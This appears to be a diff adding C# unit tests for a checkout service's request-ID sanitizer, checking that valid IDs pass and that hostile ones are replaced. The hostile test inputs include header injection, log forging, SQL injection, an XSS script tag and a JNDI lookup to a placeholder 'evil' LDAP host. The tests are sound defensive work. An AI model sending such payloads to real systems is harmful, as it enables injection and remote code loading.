@@ -1,0 +1,42 @@
+using Checkout.ServiceDefaults.Http;
+
+namespace Checkout.Tests.Unit;
+
+public sealed class RequestIdTests
+{
+    [Theory]
+    [InlineData("a")]
+    [InlineData("4bf92f3577b34da6a3ce929d0e0e4736")]
+    [InlineData("Web-1_checkout.7")]
+    public void sane_id_is_kept(string offered) => Assert.Equal(offered, RequestId.From(offered));
+
+    [Fact]
+    public void id_of_sixty_four_characters_is_kept_and_a_longer_one_replaced()
+    {
+        var longest = new string('x', 64);
+
+        Assert.Equal(longest, RequestId.From(longest));
+        Assert.Matches("^[0-9a-f]{32}$", RequestId.From(longest + "x"));
+    }
+
+    [Theory]
+    [InlineData(null)]
+    [InlineData("")]
+    [InlineData(" ")]
+    [InlineData("two words")]
+    [InlineData("forged\r\nSet-Cookie: admin=1")]
+    [InlineData("forged\nlog line")]
+    [InlineData("nul\0")]
+    [InlineData("\u001b[31mred")]
+    [InlineData("ïd")]
+    [InlineData("\u202eright to left")]
+    [InlineData("🙂")]
+    [InlineData("'; DROP TABLE orders; --")]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("${jndi:ldap://evil}")]
+    [InlineData("a,b")]
+    public void hostile_id_is_replaced(string? offered) => Assert.Matches("^[0-9a-f]{32}$", RequestId.From(offered));
+
+    [Fact]
+    public void every_made_id_is_another() => Assert.NotEqual(RequestId.From(null), RequestId.From(null));
+}
